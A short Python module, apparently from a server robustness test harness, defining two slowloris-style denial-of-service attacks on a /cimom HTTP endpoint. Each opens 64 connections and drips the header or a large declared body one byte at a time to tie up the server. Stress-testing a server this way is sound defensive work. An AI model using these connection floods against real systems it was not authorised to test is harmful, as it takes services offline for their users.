from attack import Attack
from support import Crowd, connect, header, stay


def drip(connection):
    stay(connection)
    connection.send(b"x")


class Header(Attack):
    """64 connections that send their header byte by byte."""

    def attack(self, server, stopping):
        def begin():
            connection = connect(server)
            connection.sendall(b"POST /cimom HTTP/1.1\r\nHost: localhost\r\nX: ")
            return connection

        Crowd(64, begin, drip).run(stopping)


class Body(Attack):
    """64 connections that send their body byte by byte."""

    def attack(self, server, stopping):
        def begin():
            connection = connect(server)
            connection.sendall(header(server, 100_000) + b"<")
            return connection

        Crowd(64, begin, drip).run(stopping)
